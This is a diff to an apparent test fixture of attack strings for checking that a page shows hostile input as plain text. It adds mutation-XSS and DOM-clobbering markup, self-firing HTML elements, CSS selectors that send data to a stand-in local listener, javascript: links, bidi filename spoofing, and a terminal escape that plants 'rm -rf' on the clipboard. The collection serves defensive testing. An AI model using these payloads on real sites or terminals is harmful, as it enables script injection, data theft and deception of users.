@@ -1,4 +1,4 @@
-"""Sixty texts that would do something if a page took them for more than text."""
+"""Seventy texts that would do something if a page took them for more than text."""
 
 LISTENER = "http://127.0.0.1:9"
 _RUN = "window.hit=1"
@@ -50,4 +50,35 @@ ATTACKS = (
     "../../../../etc/passwd", "/etc/passwd\0.png", "..\\..\\windows", "%2e%2e%2fetc", "#turn-1", "?hidden=1&of=x",
     "'; DROP TABLE episodes; --", '" OR 1=1 NEAR(a, b) *', "a" * 3000,
 )  # fmt: skip
-assert len(set(ATTACKS)) >= 60
+_LONG = 4000
+ATTACKS += (
+    # Names that hide properties of the document and elements that our script looks for.
+    "<form id=content name=documentElement><input id=live name=dataset><input id=theme name=classList></form>",
+    "<img name=getElementById><a id=tip href='cid:x'></a><a id=tip name=hidden></a><dialog id=keys open>x</dialog>",
+    "__proto__", "constructor", "toString",
+    # Markup that is put right by a parser in a way that its author means.
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'></table>",
+    f"<svg></p><style><g title='</style><img src=x onerror={_RUN}>'></svg>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
+    f"<select><template shadowrootmode=open><script>{_RUN}</script></template></select>",
+    # Elements that act by themselves.
+    f"<iframe srcdoc='&lt;script src={LISTENER}/srcdoc.js&gt;&lt;/script&gt;'></iframe>",
+    f"<p popover=auto id=pop onbeforetoggle='{_RUN}'></p><button autofocus popovertarget=pop>x</button>",
+    f"<p style='content-visibility:auto' oncontentvisibilityautostatechange='{_RUN}'>x</p>",
+    '<script type=speculationrules>{"prefetch":[{"urls":["' + LISTENER + '/s"]}]}</script>',
+    '<script type=importmap>{"imports":{"x":"' + LISTENER + '/m.js"}}</script>',
+    "<meta http-equiv=Content-Security-Policy content='script-src *'><meta http-equiv=set-cookie content='a=b'>",
+    f"<a ping='{LISTENER}/ping' href='?hidden=1' target=_parent>x</a>",
+    # Style sheets.
+    f"@font-face{{font-family:x;src:url({LISTENER}/f)}}*{{font-family:x}}",
+    f"</span><style>input[value^=a]{{background:image-set('{LISTENER}/a' 1x)}}</style>",
+    f"x\"; list-style: url('{LISTENER}/l'); content: attr(href url)",
+    # Markdown, which we do not read.
+    f"[x](javascript:{_RUN}) ![x]({LISTENER}/md.png) [x](data:text/html;base64,PHNjcmlwdD4=) <{LISTENER}/auto>",
+    # What deceives people: text that runs backwards, lies over its neighbours, or fills the page.
+    "report\u202egnp.exe\u2069\u2067 sseccus \u2066",
+    "a" + "\u0300\u0489\u20dd" * 200, "\U0001242b" * 300, "\u200b" * 500,
+    "W" * _LONG, "\u2028".join(["line"] * 50) + "\x85\x0b\x0c" + "\ufeff\ufff9\ufffb",
+    "\x1b[31mred\x1b[0m\x1b]52;c;cm0gLXJm\x07\x1bP+q\x1b\\\x9d0;x\x9c\x1b[?1049h\x08\x08\x7f",
+)  # fmt: skip
+assert len(set(ATTACKS)) >= 85
